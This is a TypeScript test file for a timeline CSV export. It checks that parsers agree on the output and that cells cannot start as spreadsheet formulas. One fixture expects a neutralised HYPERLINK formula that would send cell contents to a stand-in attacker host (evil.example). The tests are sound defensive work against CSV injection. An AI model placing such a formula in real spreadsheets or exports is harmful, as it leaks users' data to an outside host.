import { spawnSync } from 'node:child_process'
import Papa from 'papaparse'
import { expect, test } from 'vitest'
import { timelineJson } from './timeline-json.ts'
import { timelineCsv } from './timeline-csv.ts'
import { address, readStories } from '../tests/stories.ts'

const { own, hostile, all } = await readStories()
const read = (text: string) =>
  Papa.parse<Record<string, string>>(text, { header: true, skipEmptyLines: true })

test.for(all)('a CSV reader finds every event of %s', ([, story]) => {
  const { data, errors } = read(timelineCsv(story, address))
  expect(errors).toEqual([])
  const { events } = timelineJson(story, address)
  expect(
    data.map((row) => [
      row['id'],
      row['url'],
      unguarded(row['title']),
      unguarded(row['summary']),
      row['edtf'],
      row['precision'],
      row['earliest'] || null,
      row['latest'] || null,
      row['part'] || undefined,
      unguarded(row['inferred']),
      unguarded(row['text']),
      row['citations']?.split('\n').length,
      row['published'],
    ]),
  ).toEqual(
    events.map(({ id, url, title, summary, date, image, inferred, text, published }) => [
      id,
      url,
      title,
      summary,
      date.edtf,
      date.precision,
      date.earliest,
      date.latest,
      date.part,
      inferred?.text ?? '',
      text.map((statement) => statement.text).join('\n'),
      [...(image ? [image.caption] : []), ...text, ...(inferred ? [inferred] : [])].flatMap(
        ({ citations }) => citations,
      ).length,
      published,
    ]),
  )
  for (const [index, event] of story.events.entries())
    for (const { question, accounts } of event.differences) {
      expect(data[index]?.['differences']).toContain(question)
      for (const { statement } of accounts) expect(data[index]?.['differences']).toContain(statement.text)
    }
})

const strict = `
import csv, io, json, sys
text = sys.stdin.buffer.read().decode('utf-8-sig')
rows = list(csv.reader(io.StringIO(text, newline=''), strict=True))
print(json.dumps([dict(zip(rows[0], row, strict=True)) for row in rows[1:]]))
`
const hasPython = spawnSync('python3', ['--version']).status === 0

test.runIf(hasPython).for(all)('a strict reader, Python’s, reads of %s what another does', ([, story]) => {
  const text = timelineCsv(story, address)
  const { stdout, stderr } = spawnSync('python3', ['-c', strict], {
    input: text,
    encoding: 'utf8',
    maxBuffer: 100_000_000,
  })
  expect(stderr).toBe('')
  expect(JSON.parse(stdout)).toEqual(read(text).data)
})

test('a cell of several lines is quoted, and none of its lines begins as a formula', () => {
  const [event, ...others] = own.events
  if (!event) throw new Error('no event')
  const [statement, ...statements] = event.statements
  if (!statement) throw new Error('no statement')
  const second = { ...statement, text: '=1+1' }
  const changed = { ...event, statements: [statement, second, ...statements] }
  const text = timelineCsv({ ...own, events: [changed, ...others] }, address)
  expect(text).toContain("\n'=1+1")
  expect(text).not.toMatch(/^[=+@]/m)
  const row = read(text).data.find(({ id }) => id === event.id)
  expect(row?.['text']?.split('\n')[1]).toBe("'=1+1")
})

test('no cell that somebody wrote begins as a formula', () => {
  const { data } = read(timelineCsv(hostile, address))
  expect(data.find(({ id }) => id === 'a-formula')?.['title']).toBe(
    '\'=HYPERLINK("https://evil.example/?"&A1,"click")',
  )
  for (const { edtf: _, earliest: __, latest: ___, ...row } of data)
    for (const cell of Object.values(row)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
})

test('coordinates stand on the line of their place, and are no formula', () => {
  const [row] = read(timelineCsv(hostile, address)).data
  expect(row).toMatchObject({ place_countries: 'ID', place_coordinates: "'-8.05, 115.1" })
})

test('the table says that it is UTF-8', () => {
  expect(timelineCsv(own, address)).toMatch(/^\ufeffid,url,title,/)
})

const unguarded = (cell = '') => cell.replace(/^'(?=[=+\-@])/gm, '')
